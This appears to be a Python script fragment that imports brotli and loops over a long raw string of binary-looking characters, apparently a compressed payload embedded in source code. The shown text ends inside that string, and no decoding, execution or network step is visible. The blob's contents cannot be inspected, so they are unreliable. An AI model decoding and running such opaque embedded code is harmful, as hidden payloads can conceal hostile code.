import brotli
n=a=0;b=1
for c in r'''FF͍!1o.cTuPhbS܄"p*20%'aVZyΎ<z~; zW ^Io/UGY&.CZ݃G m3;]s
.Hg>dހB6Q)dJ1kjMq.14C;׆ki̧45lqO)֊n}vV%!}'X4`g'ӧzh2ͬE]hUǟ}DĵmBqd<nwx3+lT'ةϙ,+ˊ$اBA{I07&5EF"h![MWiMi&3Ij(+)ϋ2q:6P3$BnĬނȥؚܰ8>ݶ$|ˑrrְ\=Sj!^;g^kٱ ˢ˳;E'44Ӽnӵ0(ٓ9ӊ^GTzhO+:kW[J!]%Su/?.0ʠT)XUCz'P}dPƏT V˾\kCax'=UЙ1nSḆ1rBGƑv"ɯۄ	U0CFؖca4ra\?ʶ2oWU'rw@Q{\fEO+},4_<OI֝G3BwIp63^3c{@O	{Oqٙݩo(b"~?L3 lcقf<M<.փIw@$l|qlʥӲSR8X6ϻPxg$#?HÍ^]ĠsKrA؞:1l;|h0`X")+j+, 2#4&[[yFF'	oRGl%Vؿpk-A(-2ZJ,ȉ/pVrwa0K]{	EYp}-fęU)$ta!mhAG_nrW;iys"\bYXi4wMqpJE;/X'q9(ՙko5MU&lo.K$+ܶ9ZZݰ1-S}E[wA*;}5
Ƥ#dCE%U2QOp)#U\@?z_:F:۰h0."s{wV!:ٿA{5mRpHk.xg8#BhحͱBqi8Tiͯn)~ʹcu8vbȲm,6PvJk6KwĄhO%W^P^$|F%bPNxsOc,Wˡ
w_́jȒ6".)K41WK`j}}eU(6Ѱ]ǹD@o	:%z&7l`-:)SEGǱN̠^/8c7I?JZ5܌$/T$Z;l|VAIYIaLǐĉ@Yvc4Iؖʦ)b؎NJ~8uO̓ ұ܄&[2Y܌*fA:jϺA42PDK&#kp3hP`a&\
*Myg_>%IҢp!pڝyR+hEi ˤV\1"/O+ڐLVU:)[>u3/ڹءx"@)ayx>#ğŎT+%Z1F-j!@jYӞOQgǫm̺Ixa;Hh\P0jMɳ-$wI#7f'ߨQ1VWyMZB7²_(:u'sxg:tYB7Sjl:{9
<QŁN_̕E&La!gv!Lc}c<ËDw)A"iHǷ'vk]ɥA5ڪx־SvbJ9ٵB2`%=Qh<Gs*ݵ	=f`J[E˾W$0bID]Q>sƏ!0xLg,#gG4:qԁsLݘHDB>[26p#VBvw
~c_(ɘwQ/6DO`m@*t\P8'J"r8ӷ]Oi	og[4wKrvgN}A7HE!R0˦U`ǔţe*m;^")8̷mҙcD޳/sȡbPitGEPbpFD{;(h&J&yn,iq
Au>^̫Sݦ+%wwd.Qr ms;}u/kN/>r}C_ݓto\1blF^}cWy=>?D"4WτE3Ӛ#	sE	]I6Z*klFE88gے}Ţ)A=e>	K*#Xaмz٭Xxrd@`yW>E"pIt
6cӁ<.1t6,R"٧xg=itǴçS۬X%mՄ	YeO7tt}%"gmO#Ք[K7|$_$nAz(vghfz]	u"~گQd"y(3oſџ>Aagc>T=ڷ/&TBwΰWEBrǠϼ$v{R}GZB1S-j\[S&ɃƅݧkUѶ14gxKՐ}levڍXKWM]4+)zhd5}70Ͼ/]՜<-%@"ˋjP5&/FoK{PFĿ̛\hO*2A]Zʱ9NNA̍9L4|K*g[	VFbRNON#hRXûs^MB<m-.#0C:b@*HhhJ-W?U:XjwH2˖pK\g$+~NfBJ[jϧ?[#tOmt+`IwƾFB-VJXiUrƏE;Ė#A/0z8^RKaz=Q}GϨ:7z,OUg)H>T6GtV\6R@_]>XI?5!"7Q#0,&jhT#Ƨ˒2aW2Ԗ0~w)co#4|~-3ޱڔ-܇.1;Cje0;\)QU:DȟB{o[r;ux]WrѾWٯYCOMVIޫ9ERbGRh]ylB)nm7`U<u|ǺMVVHA7o{Napjکc<b
!C$ej
"=H>Y<`Vr^[}~jUƣDBT{Y%̏?1HWxg@%Cպȱmm d]gc׶O͇~ BBO0e;kY-7gCM$rΡlD.UJטvR(XXn˧t[GgVȾu9`'Rk9E\O=Ŝ|ҧ:8%Cf =cG_9Gle'wz<B72'f%HTřAR\%}Х8H1_N?i}=ap(fLiUsq]P(}BQ2cޟ`Z
RF,gLދ+Ps%6Iko6
4_@ķ_4qSzo&#
z+Z|dtk;nD&$l19=WlpDQGPMPdaVLY	+^+.OԕR9p	j~zɉ=ZP$2$	{bt@Iu9D|so	^eYHl4Jf-f-.cwhJfwS!a,F(ȊZi85r0<?Ilg8..P4ŀK#n\o]̍Ķ?;)H1*|z:n7vd!˚{8jk̾s8f^snfR,ʂTTSot׮y+2aST;^Usr/"oӫ	-՟?$Y|lQyߤܧ6Ѥ&}wKڄ}$N;Xn%%j˰O*F-
]5Qx`jSIϷ$"2PekĞ˥^/ÿ.ƫͼYK=N;ĭ݃'R['k8fqx'ˇrLsԛ}S%؜AJ1
ݗFau2{.;ɇL$Q<tTfNֈw/Id[INfNVײ3!04|CZ.!@Aٴާoն$\rc4/9޶!;e&fзC|nK*/Q;^Ğh2@m>,8߳VPG(nMbP~Deq83[Gn~,6	:Qr|vFSTUQ·݁ώn.spȘ7lwՖ<`~2&́G9<έ6LUw}
W0O͘cNնi%:#+ߍL:*" EEoct/-chހłƢ9bԏ7
`Hq .|v?=B_Fe~DͭcȠО!Nny52j!ͷ]vf	s\!:&ʶWzVn8h#)VP'b,ۊoL-VeAY<n~ϋz8hR;eVĒʎbZwxԾU4r4[W~Rnݩ]ubk:t6V	ަ,4׬	ܰeRf}o}^o;E?EJ̴'+FEyriV^ ,*LX+
NՂCuVz
<eV۪ZݯƨE%.Ǔ"-1Uδ>Ξ%DWoƅUe}eotY̨GHNvo%-%-Eޛ/OdNIn+ūҷS0l>1T/3ފbyWV>_W\Ȁڇ	h`!KC8{crnJqW;wqxfΏWaHyx>߮4q֓CvG1~W-f z}jTlVra,eܷR9?JQh	lΞduCBr,صL[Κ{t=_BZA;Ģ]ior#<O%,Edy*C̒7lK	Ϋu@->k/9.!J.ߦ	Gc&9!\~xhKEGߣiaPmj|.]p6IY[L]N)bv!F̠>qQV ӝ:	)+{LՑ@{{_^n_u_s`~<;j:C-SzݎŰ"::h,TB<քd4Ԁ)@|01/eTfDP#>ӤBy}|FƈO,Ժ#;Ena³'~K9kܪr@ɱ9V?_z:3%]zsϾQfes],iB\gRNT	>od>,%ZþO*I:q=\A3D6˃K^͜rM6tv	-qnTܥ>ݙGC`;96'kV\'7Ik9nG`Bm^͸A*wPچh5Kn<'7XMR#ٕIHvkŰ ʠv|{ףZՁ9HuΊО)1Sȡ
xo}TO̒|۫)1E#Ӝ?jٝDNP+ǒ/ʴ#p#>DGPRl60G@uE3/9rk)SgHG#<Ó6J<+7z}\*Š:jqvbʫWK.YZ5ϑP4{5ئl$+rS%cԽ	Ɩ3ȴO}+^~[A6¨r6sW9֒ Oޔ ($ӱfD&J!6uۤD͗52bݱKpAyHr.wKDZ`,-QWڔ'XQiaXIZ@hmʓ]G;עɆ;V5%ȬSݬ-t-.R\ӟN^~0;>{'ָ,ڕӱy߇̥_.fWzf6ПY>5UPhԲ:Zєf5e
kR3#j2xe'&oKμKעO`'pcd̳L\6Ve<~Р8{%&ɟ^aLt_#ݟ 4^97M9)awr9{!]hk#T;U΃h\ִUµxEul]ۑa6=ǎT֚ڿc6ԜT5ɣ\{ݱΉB4
C.7p_7ɍ:{#i4$Uۈ'}_:1GXLA|;sԨ:ܳ3]wV(JM!Qs\ʯkS)#̐oCYCSy8VH#bVqjt5&":m&GU3T Aň>HZɷ(0q@\N!R´RY#M?)$>)7X-l'dj30׎G7B3`!yPh$dۜE`OM&!;#ݺ1MM_e ^e}M^8=F{"ųo=,\C+@b݌ϘRfLM(|)\d5r1ɊPHՙ<0,սk7 NnEk2)8#gƎ9-t.NzHO>Fɰt`9
Tkqa{ߋ
Ӣ_͹5+s,؄Z5(=P.3ږT-ͮevI+#7}ʻ}N=\Z{QmQբ{ofkGu"r**.zIWǝz3k^dzeMޙ/#,-y5{F
ڸAM@
Cl,>qK3$lN޽.MԝԛN`Ů6rYȉGv\90HЈf 6qQܶQdw^,^KfC<eѭ>is>SHv:!Kԋԑkx4ۗBt!kTi$uWW:(05yMTAʘo6Omy|{9c-ŌL]m7Nn	$*f*u2oٍ%829R6-GŁ[xLq߸UC!.MtR9oP/dւtX6
V\;96?Kk-ix|p	xt3bY6G>'#r4R0Gb^rv@-q٩K-Nq`Ƅ3VPD	5X
Z܇Q~D0֑^_Tͭ#aEmjaU]<$NpĀ
5@ssS\TَґU4*v8Eg8X]b[[;#GeQ>a,4ֵ߯ׂco d,_A3tmlH ~jTg̸||	YGnƓY>,̙oۆM?d#3%lW<71+bV9-kTY5,l9yqT%ۏԹ#U˓+7p+Ӌ_9a~g)"ng2^WGD>۰&߰t7\0LrX!&$Յ }7z nօv\fH7it:6%	%b͔Х{2_ХϪJAo28\2%ʧ{<ע-_IՒ^ǽjwZ3XNF! Ϥ	Śu&CWSKE3Ey.LF?G-3I;lnoj&/G'rk8G-pSW2S4!d>~חVfJHzNdX
ܢ`֝CGѻXr.;ڧԠqK
WrGf$_!p}l"ۿ<Cاa,k%ik,(q6^Gz mX2K[BRǰκtKҞu#rnS׽ݙR%_՝߀ۖ(R2}I?΁ʉ*$ݓGjĜƸC"s]#cX"ǝ.#aZwxdY)7B^Uӹ 8[8&|QMQT3jNc]ƹUwZKٱdSρġ_ͨHwP3!0@J69& ~'?Yg[
PCâ%p޾Bɢ{4ݯ	iѝfZe=fJ|vyRѿ:w4:\yw(߷O6AvHw!Iݬ-.-:ɍn<؜ނj],u^fo{gxE=
`ՉU0hQj(yhsX-OЛ"v J$	#^Ş˕.`a%1	ךl?_Gȱڠ7͑2&y1Egr2}>}YG֎_ն;Ppw* wLzz|`eCF64y^yiS=RV).}~SmG]E?Gˤs0h.~7dʝ~@K͔GG"ÃFNq3Ġ̨uEcs+ϷVa<~̷nTȪZ
lƄ^TGX3Pُ7Kjc VS}ϝQQ
ˮ
$sYtQԸ\Ӽ=l#σئ˛ښaA<l[ĞmxφCseS6e)B>ap.RVBɈD28+{0*P׮DwöIW]3Y¨ʹ]9׀UuޛozMUK\S<z.ސ8Y[?'[o;kF""E=dȫ@6KOká0,T_W&ÈإtΉdwl
ԕ*Xʹwh	܃ף;eu	Hѣ}-%7PLiA]OZ%SDsQ:D~d>4|/dY:gus;Ƿ@c ڠy:HxnvO+*ψ١@a;I#?8jߐ}/aE1q,y~V+ӹ0)FfDh#uc0MTL<nkP'^%lbo7	ͥɸ@cRRtf?p(Xl^$&mlxf034c9VA߅^C_eߋ/3&X%zpkDA"߿1GNcH/(vKzV-4`ODvX?ԑΚg:<לfN/KR7ۭuhϏKlWu|4>?6q#K722::B#n+?h4յ%TJh/Zg֏]R'ѥ֎s΅4N1MQ0ӷZ\f!@B;MsvʁqgQ<z&*(<H""%Ī]#=)u`a)S1iC9Lfާ$f*E7I*(<QGqpւ+l1ɇe=ދ""G?,$7`nʄM	X5jސ޺9HL3͌_sޕ|X
;[˱sqTЭ|<!<v>wcDmrڳK^_M)/AeۊyFaG5;wdIr`Z
]]ѸEm:XN,WwisE>đك*ҿZ;E1ݭ])C-Vf4	AMS})eE^}qo2Sޜܜ(08u9!՛N5|8s0\d?߫ug?:V9Jӻfs\Ϗf֣IϸWk?FVyl&i}Ĵ7%6Ўh*3ޏfV0Ҍ!BulUʣ_޹u
bɁx}mA-ҕϸ1wwdڟT5O٪e~
|A;ّ?#	">{E&%G7əQ`=ƦC3v:^f8}nAX8Ӗ֓+C`ه>)dKWm\vgCve&`3"I&yȆ3j%]@m8a}=LiMy-cSgv$8c(HzCO,ù4	`ںT208	gђR#zXQCݯ\WڈPň(vN7qi18F0(֢zZ@(lXT.Sb%.zgaVѿ/x)l-مE.S51Z>)S>	(+v:ȻOK;+q](}c>RىU$aLӞѴ-;"mm'Ҍa>?)`6jR؏ȶ7,J"RM1/%rB*xcOxD4ɓ}΅v:9$`OG}_-lp[E]FN/j]G_`\6RM{#9Tigȧ(I%\ Hֈt`]vg	<#5:@C:tU6EӲT,,>m"OXP=*{#N83ʜw&vb)mzot%BڹSmj؍,4kCZgZzNBTU[X-&){
^tsQ־ƶHIVZtPq]Ƞs^FX{#GW\^kۃ`\fiĽ7[?9_8NRީ[ʛ

;܊~ʁ<$=|&*5G\f_{A(bɿC۟;DyF}9,xFگ{DS̰${A1?'1EAۗ[&Q{cp̬qc߾ǹM?<ՖG,g%2]V5qY̓eDDbI;;%O%ʛE+@0ܛJ.F#zWE]pUx;:K/X(ԍl>`hWQ%'-&[d__x½6Ď|'a#ɿ3Δltz5\*)Դ9HƯx35y>1oJYbA5(	/V{*lUiob\߸q~ϙMXiV+,?8'ŗTҿg_LhU
Id5#Ss<Us"ˁByejy{7b̐7ܭJ%zGS=|)ΔŪ6k|U>+3?ދalǓbv>,SbQڷT:l-ؗVF`;y4N)^jT^Bܪ`͔4Ē_Q87`u9¾~=Ԇ	-(*nʢ.
]6OgK	@)n-:ӿsɵQOhZ=Y!Q^<\byȧ,AI?, zFֹt~W9BeLPT6+ '3Nr6M;ͮ
!g{ø֥͐f}i$ɠB#P.	g4tɝ~koP-gI9-6F>-c% %a;+/j٪_4fvF3Ҷ;/imv\Iv%i-.=@	RhG͊_FOXfG=n<smVHކ{?+7c*oGP6k08802E_j!oFJ \/ ձmYp|m8\;cts:֔YKc7-|]]ވXiiNxMĉ@
$+U[ȯutTw,;	)ʳLʏ&tW$yO*ދfKbψY{xa4ĥ*M7bV"VlvݤMR#d@ڀ6^'bo}ˬQQ1'9HcֱǉDZBH'.d*^<lΠ~N¤Iy{hӦj`nw~GEѲt<vnG-§:w!iż:^4>zJYZJ _5<bo92#׌XKh͖*AՓ432`vIq\źzҿRks>0-4`LCzlEԦۋ[	,mWCԮ~[ڴZR-1;1^0\lw)k9UۦZ-!ҝ4A6x7F?Vxi !$c7<Tiξ=/fGـ'ISL!%GR'^s(Fl8ԫ"lGҵW[2jmk<q=]k\Nfl/O,3`sbc@^QcwM%}/ ˠ[%kOZ"҂ɏE_6$!FՆDb#[]ߡbnV0@+EU|
y{Wl?5ҟՄhg٠.JOyRߊM}	Hl_6}KHx(DpOE7S?mn!ٕ<zM'ݮV^. `Ϳ+3$+TeL݁Ú!ъb63ֹf';cP^יG nވ]vL;<{$2hzX
52g#Nkc=;'`!e(|ۙ]_UA&twAcԧ9o,Yѯd?488ZiF84'1Llr;GZ%@M?Q&<mD5t,;cyڬNVȯ&؅~_dE_=kzh8̏Cw(-p/V9&<}t:A=gOϚt):ނdLނM?{?/Yô*rmD8̉u!fi؉˺SRݰ|#AL̙ңխʾЊ¥P!#8ԈOeG,_ "ʨA#ŝ[63$i}0+
U2%g-`,UthQ.&NDFCƿLQ/>r1F}Yj*K:W5ޓP |J*PJ!FH9iQb|J
yp[آ(Wɶ&yk5X/Rč¹WNTI}w&ԓk~N"HԵpO\utޫ}lh$G:,sϘs8|ϯugn0ł`ӌ>(,U
\Q_Zǿ7ɻ;>\Jɷb2ד06F'LnNg
t3x]*-r.1P×Z#NnY؁\Q@ƞiܓnX>>5dURV 	zyNK!*&aw.Bqߕ0Aی'$]͝rT۠a]*ņBG$Xcu'Rq͑iD6GTO%o56MSQstWUL̞ʜ"g1\LVr1zI14^9(@8;4xC_ŀnm'*44ѾUL`TxqMPfAnpXXG4m"}Ieyoit[\PcRi 6@usM"0Lzf[r_gQzʟV!*/!y<nrzs;HSSƴ=?Җ9řnf:dOI](͌
gUgΤVxX4˷թgׯzڰbbן$* ظzc"`Aƭ-kB/e[{fL=yζNם	4(}%`ƒ9ڸP*'3w%/DKS;	mud0VZ0a$Iׁj4=p>dÖԭ.بR֡4%n̿|bȡe߅~iP:WT˧3UC%ַLl؇{LUS#tT.$
Pshsk;<vCK0Н(f,ݬm/r)-0F4uTǮ91NI#n F8{S}F>2CYs/0	|)L]>*eM)MPfۮ-
'GӴոNbH.kO%:d̡!Ā@46]WAdMkj߂KB3i^ׁgQnwŽ,H4Lfn."N0
 O0jzc̩ҵ*vk0eBx~NJ7AssMޫ|QlU(UcpX.(|</4\S(5j+h@^C)ѡ>DVDǜɠ@4lj/پ_Jչ!XgߵwLo#c3vЌ~ˏUosw"X>s&>Iw@=ZSC$ǐB?1R5lkTU(Dn1yD%@V18KW<H*xĈƷ	N+/2-G+A&)V͞gӟB)d*KZrĻ_y^.Gcҳ5ċG$+/އ{:1{imzsk8=1~%eMϏPxd+v=թ=WJcCtW؅msaUm!}ZfDU8$ٜX&JW2:zUQtLN!9fv@¢cҐ EK	//V7١սWЏߓ}"RENBJ(uƿԸK3Ù=@Uvf;1.sZBN
k)Wrm!~mX>%Z h:ƨ=ŧN_̹	lOE>c3JFΑc{+..n]	
<u|&-q`0:g~N5x݂AܒI'"l3F95?9
RBz81w:v i_7q.GZ{ȮɊŶzH6Ʊ%1DYlĬ$5*=d48CGOb5|(3G{.ԗ,H&2t-r f6LC!7]n)\d,ĵY:ڍ\	ŕ}]ۋ%͖L==BJg@6AKͫlX|aɓA>=ֹլm6NW/¿$}ըǫ:bcGڇY?"vlxDnعRܒg5۔]8/[`YN;]bUS~I+xskz~XAiܒSܝK`˄ُxQwH?%N.^±mkyiYVZcYC/ߨV#hҾ'S \	V{)>-lN'Mh*NXs,ñlz<vڮwoх	e+!@-rE@9h¥yҺ%ؘPc(GqѼF07`? %L|lRAc58^̩ 7tm?t2907Yv(~_=k#FZoֶyNKnl^waLfN	)wh/~ICivl5kjl]f@͈3Hbuxq.K./ͦ|U?{/Y^9L=Z?ThқBDա}+3ЂGT<pEێzEI*9բT߻4d("$J0	d2^9qtRЛo57H&1֒(-vQ׶EL̦6rbm'wƳ9JkpCcLC;>S3`߆9{Zހ@}ފaj$ӑMiJ>p,aZ'ObN.nh7q8gQNӃOKlf8IwӤPM9,UEsA+ӥrrO${@ifYB`\(n66ɫC"|m#MSJ݊Ɓa{s;b0#*F\Զr+<Y@)qjб$ݻX?Osp?<ط yЙPPΎ|Ġ۔*FRרgs|TK+luaQ6LZir&ˡW	vhۭq[bFJS!=w2EW@!"K'җ\ߐ
UY/|
 fNlcaMs}+*bx؀mƟntPLUIi)$FIwm>C0ߔ
uD|g\mU_κd3|`ʛ0Z+JF`?\ZݚbfվeF%^ {jS0S<1/ۊ'3G2@\`;j΢gt	@Z1ݙ۔2Yh*z#
86?]RQ{J>9V@CZܷ8?֮\rԁ4ӕ3hl'9!~ًEot"af\D'fپ0+8ЗЬȗkQ30Y]
eDنJ/Q{j-tI˥Xb66;$Xf\uݖ2y"0{#F>ڰQ.6,߱GCh+/	$	W4ڀhͶ#JUOHCl/ڦ&A?ο՜_ẑ&F@kɓ6in̾Kvς.V%CQc
YH(E^mHgIw\=-Ȩܲ	{T(۝DϽ 5y}doJQSؘ ׄp1	e,=_Wl1DL=Mc=yx |r~CڑK'rS|ZpؐH,Z'@BUKo[+?v6i<[~:ρ-M5@9mRfio<G	Bܢ1+pPfJ:CVW>ߚIE^N+?ʵj§-hGqq/$XE[^fE@z!JP޴0-ɎYPpT".߯4:[Z=#%N]o65mc
]J7Hӭ:՟&ui {l~1ʿQz[1߽ȩkonRqaϤH-CBXK1'"0,[]Ő>x0s68ķvKʇt,=aO-¶'=t-`4kP,(oPͶ<k;ECAo!ȡ`Ȩ`or
ASspD\ul!ŭ'\"E	,|ۊl'+&h)١Mr
za5`LcPyʝ
wͤԎE7BM5<ĲFên<j,a]jHc0?ݶ@5"H9zS=\m(,Ë1 {W۔EubcI6ۯcXPѢR^D]=#hDҢ-@L-!S'BYK`bna9~/nB%5{)%]&]Ct9D8J&;ijP9oţ\<lЙO~X4ܶѹTlk6VI֚Θ	'%$Hf;/?6*6ZBa6П@bˇZq2t* FaX&#MT
Qcgtҳ1_~xm}:mÙϫOʎc1Z^^&o[$MRzс8,NA*mflbrB0|'0o
ݿoXB<ίS5j^ʞ;"R-3E|#gZ)kuǃ?KETzؔCEӼ*h7nhJ_v"ɅټY2Vc	^*or/}:È,З.[75INӼͱb%e!_c4ӓ7Ɍf߆y
.	+ı$ZDw}4~u.ޢnDHce&8boǹd`V_*jG3GȕsڀdǦ73yYj}>>4R#ZG<?FJ݄Ȫr'"{z"ͽg:uǰd͙;`OYєXn~+ߌ|FڌXOVr8""±C|^b{]Eԇ	.ctZQUQT*PGhi~/7yzpMrCj?$7C09RNqEk";1T͑1ʒ[uCvr̹vp˜ܐrdm^$("aQĈc5{4 zrƃGOWY)-ITp_Ʈɸ	ܫ,X*jHLxTgZ:7)rB
ӗ=X0]r{ÍCGFjac6y+ʌQ=R˭7U%!;}rkx7xrid;y4dUc!F	+Fhˑ]3+9WV2=r?ٰAoۖt;wUe's۪&Q<ݖ`oW>#P
@٢>ğߊ&A	c!MMo/еEʏ9We'Hݦ)|a!fOqJ/_	uP(9!t+ѥEҧD|īsanbV|ط}&ٞ?$Tt2זf:eX	[.IaĢ,}!K.՗?x'O	
l(\J4ۋ%wsýЯ<:u9YfK2ֶ{qϪ֛Eң"8">[kRY߃\l%NmBYb)##[r;"Xؔ*Uc-w]6xD"iױk"ѻƂ'p^$v4l`@ɡunګu1Qe"CTG@q@fے5^4M7ZT5ʸ3@$|O'm߹"4J@Poɜ! Smw[N7^+&g)N7}O7O%;!FvBtcj=2ΓjGCL\$m/>TЯ8ʓؾǐ\05̦4փ3^x`م3A .}bao߈&s;64;]p}tO~V	`\>J^xJK@Y$yvFɭށܲ$%BFoǸѵ	È!Hi2YRŹڄ̋VSC^6uϑihvەhR
Nң7j@6´g-;`0+IЫ.|B;s})x|U+5
Fp#P6hRx3J]q5Gx!mi{5֌'TzRaSiE2`d¾-4GN̖qeP&0Ҭeb@tj	|ZZG%8F,6xfBS4T,`w:$\0hjmeȎ7h+/aݸ01(3L%Ƚ.p*pzRgnٌaDw+s%e_(:ѝOK<\u8!g3ר0E۽~ 9&ԳJe}د;2K 4N+C\:Tx(oej'-eRfoѱY7֮f:m?ؒ%٤D<2f?<PlrU&r+p~afٳ=;ZwygISpvqݷ[Cٿ[	@4uE1W2%Ľ,z7
(j7F*OvЇAR|Rƣח'<
+)ϧn]0F\˄9b{'$li
F͓,i/:MJT
^IȅKO;S),)w|/UmZAț[W2ٍpS=dRnyxgrN`q4H^.t@A'idv)(	7Wͳws**h<i}ڑ-[ũwla<Lb:һ~qܱ=4ۊ	ȸikv	iHP+'M"Dʇ(@Ij_~n}ھJyT	2hcܪ_Hf?Ƃոڥ,m@%ڍko(P"mľ\||"mF!*\סU|ж6=2o45GCgHK3?G;BςM 5<%!eIn[G;/>A6O}Q&b|^js_d gwg1sŎd4H$Z{3%>MF=[ʚ4a"k(.
)\ϮҎ=}B';d.ph)du`Kξ(x-bRrtmpdsjW1LړHc^uUǑhL	v/Dڄ;^b#31UZ:ݧ3LT#.X!f|[?BߚVILGԓHWO~cPũTerZj+M/ &ljf['*8h6|Ce~	/E|0Z7!|M=s_D׊}H$bS'zlUpV:@5g8}Xw UL5(WwE!מQ9^-ګ |JztʤwDldq/D!Nm1t R؜[R\cK.:xdx~w»Fʺc9hL;/"DC_{-9g$j6m.Nו:q/ZIk] ?+%&4A˭gZذ!߽qXn|fA]%]Wh|%vj5ΰ;B1	k#ŭ@o7_@̂%&@3Vnٔ"mֺ(Ff&)ܽ
neV3I(P81d\nzd_QP7i:TkL
ͿtzHI_v-r$@qT>_O}Aѷ6!]0=|zCX>bT"T>hK¼2̼y#Օ9~	`JǓutT"Z,;XlL<ʞgԮ""I? xg/T:lҳDvoYf]9
n3Ռ<gFƘ45Bϔ$({ڊDTSPbZŞ$&>"U/͒iJrJhvAҋݹP!-`_7m$9zF?ػA{'ӆ'5č%T)rE>	XNɟ;66?Plt]zpB2^-Կҝ	`SzN1Pr-Bcr$$5HqD\o*]_π;$6(TmKzؗeJN`	̚<]~8)t}nWA4x^P`w!M=Sg=qNUΠD
\nkUtluMVUHԣr6WkT#y߳:<q%zdXBa[Kw,vqSdѬ>5X`H#"̲zqյPgM)G}8s.;Xx2/?XqDiF۽<!՝UmN#1!/ cg5SN$"W:L͍ztʘi|+ܺ@tk*vW_n6!e2ePp]Q[wdmrpF4g_3/1k^*bsK#zVBބݤCcDy>ɜmm66	+:^b"4m͕ :x4NHFzElW$=$[*,:,ۮd4v2ȃ%
c_юDÑ0JжEFru'{CY%it;FBD<(1F߹͖o1m`cj~,޺YUɾrF^-jօ*sHC=)nV0N:xTڵC~+<ɉMDNʰɍ
?@÷s+OhC*CUtkpjԎje52>_bG8#Ѳλw] jyǀeɐkt"n#!xaTnƐݨC$[Hk\+ĭ4d	a{MI٩ce(24DEgї{dD8/<iVLaߪ'V"t"z1$ГՆEsGK;R=~׹LTl{|aX9br]74b:x9;'yk(rvgœX`}aub_.Hnyi8B
a/4ݲlprDt_<p/X0ʁ1FEs-*K>6UAuwæn.c+hir?@1pįtqֿn KR!$Ȳ)ʾe=i,zksQ?ȿЫgR2Ӹkɦׅu#Gͬt+ej=&ٶuRq(6\yMsݙdIqs3LjUܩGν_J{r|4t.P8[}7u:8gtƙBjT:'oOvފ) 6]>ѪQp\H`c3h^8;i:KFi8{%	Ƚ(Yٗ`	-Bέ9)ڤq,
5ڥ%ǙMF4x6~3u̐>KK'_jD\e.8<]dXuƬkLTF;V&֘vCaſ
'aԸEiu`xW[QSRsӠЦ>ɣfN<u}h6B#lLOD`ˣg# jI.7lnB?&PsDpSґ:Jy`ԗ ˈ\sZ`:.(ޭȰFn Bn
+,/,ut6Tt-?XW"`N7HM0rӧݞR6uւGU9]v^EL+X<Cb,fȪj#<c2PrўlՏ5GsUNF[$pb'`}Ҏ
\gB3v,0~p)tfxni@gbӁ3JJkm{7U^ ىSxx _,\|ۘ߼2{gaMmyLR*gf}_|&L>x
α@]4NNuF1	W&˙q~u%`ݑPW	g2>^85-hIbv׭ֲO?H?r^U|:405؊]މV{'w|XجF%?ֵoM`*!P*ˤm$2b&sG}BZX{BWQf8!
ZUNloĦ1j+w"nS.cj`HRZٟ!Z$׋@zrRѦw߹ۓq}UL.cczle=(ƸenYZIf=y9ɒx$:߉w$[ZE	^EЧOG y"ש]n>T̅).]XULTls(zd ޘˣ(z߇2yKKz	C1noufERўU"92F8!ۀbys,MfW;JmG,N.5{܌:Ȥ(hz1U"/آ lPuF2mmƬ,ϊ1$s·?)N'((/M0kjsDLodIΡv̧1<unSjuMjFϘQGotRrCcD͌2GdqN׹Q6bPh?20~n2[2[/L&,4R{Zl|7ڪ{ZU9}E-k+$< AI\	͑j< zuGZkyTa^	f\/B__MhfJnGҠ7*1~CO҉o&2ȵAـ)fj]Y$ZcyJs}MO̠"1/!\
m	w6ͤt_m*4rrP'ԑ]ObW(2|"ϪT*Ȼ}p&P|ѲشԸ0	|F%J;وNGcI.tO-9BCKaMأ4V?ܩe!j˙E͗TyƿUihn`ۚWa58a(x(VS7KTĚb(0JxfwQބbnai}dOg?a>1Ď
G";qxMn@X-߱AN\!S#-*ygHlv@;N?>5A5JSz2JyHH:i4vރq5RP=҇	:qĲ;|#^[c0.`ҽjx)<)׈kK;hwL1x7QPv"b1FƦ$3pF%2|@Q+ISE.p؝5w|r.& uاol¡U;sY2>߹FӐOѵ0z%ӽ\Cˬo=&2^rBӁbXRKխtOK=Ɩ+-ޝxGu%KW&+oVDL5!R,oM\VdߊRe<+LץD'IN2%//c~ %xxŖ?EKu/[5ICa3h'{H_T"lb/NYTGE _-3uɤ!JĦrw&8Y8\I<21Pܝ*wW̆8'E45i' #xMYfgO/*'ǆ&TXpp~,85RլKӁ	18Aߕ^@"of?>ï3W[S#Uō'P^RݧF	s;WUCfd%xz%׫jQ44uϳhb$<e2J=bC)|IIӛ*68dHӸxm**>l2\ܡ*:]Nʖ;)}<ĘP.EҒ!;%/G[| Qh/gNF2@R-m$ɬ~eaz`5U$W^[u+k(4H*Wt57T]oM5^<,Jf=Voj#='Eߟ</Vry7ȚV$^Qƅzx$%#9-4$5ò~7~J-8,Q nֹٖ)T7R*
σ0rYʛE߶_]Ā(g;CY{lbޭ/?mgTwnK*Y!щHen%^}%r,.tߘUO2P&ǏmV\ƌeP9jwAͲ=vku)#Gpal,^6Q:.Ueƌ1,Hx
~!H(;\1? ZѵMqMŁg:8[:&P}4a W7׃?Q"8',7}5Z -˭x.rp~58,ξ:C܉`K:gلm~eI[ ӫ&6^¼{ߌ_gJ[X|]Zn^V?@j#9_.a:3רη1n	'a*^F	@`˂}?t7hڀF`uuԯϝU2F5-/>#_Q/;
@<z~.(~!$&`S8݇(7Y.lz8\)qDı)JٿGN"W7kw{!:	4]:M3?9KU	aʱrmX&E=TKɳזy~NS%=TL/2@E|0>6I<]
IE;K7o2sӴ~XIMg_Y5WW}e\\ɿ9t
K9ӥڬ~}{ˋf{ښ@ӹſ}p0VGA۹FKabxludȥVmβȺ(mWl35pBū'̚lWσjܟτ^FJTWo-YBY܄ڜbbC/sòs=4y-bf
%k:=,pԞſ#)ϗ[UI jI4ϰT?zQ	p۾eos85i50><,D#) qv	VFz=Ta(mSh%rdiN'0ٱ[JժSMA9&zJ}Mx[B҃˘mhEvܪI.<2ߕBqkv/l@'s'4^Ixb y4mcNfEnˌ>P_JxaݒtaH=˸ƙfCM%uA^.xܬ?M3*/OѵV{!r9$R<ے_Np_oɢ8۩Ƚ8Eר
Zd¡8ݱs^O17ʗ-HnED{O3pԒ΋7-L8%"I͸̳d+CG1kl6lf}"b}ܑKh}	JS|Hu($ZҘ,=o(YWܽʩz2OҺֹC$Pdڬ]}vLo6W	Rѯ1!Ik0!FO*+֢z{m2Ӿs¢{(ifCfa݊aR(k]Tqw]NbzgakP2iƺ+q"'>BEj,#DwmXBc/!~CAjg_ܜsAڽph#yְ0͕
zL"W2{CO
